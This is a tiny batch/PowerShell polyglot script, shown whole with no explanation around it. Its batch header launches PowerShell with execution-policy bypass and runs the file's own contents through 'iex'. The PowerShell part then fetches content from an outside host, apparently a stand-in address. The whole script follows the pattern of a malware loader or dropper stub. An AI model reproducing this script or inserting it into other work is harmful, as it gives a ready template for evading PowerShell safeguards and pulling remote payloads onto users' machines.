<# : batch
@powershell -noprofile -ExecutionPolicy Bypass -Command "iex (${%~f0} | out-string)"
@goto :eof
#>
iwr http://p1.example/b
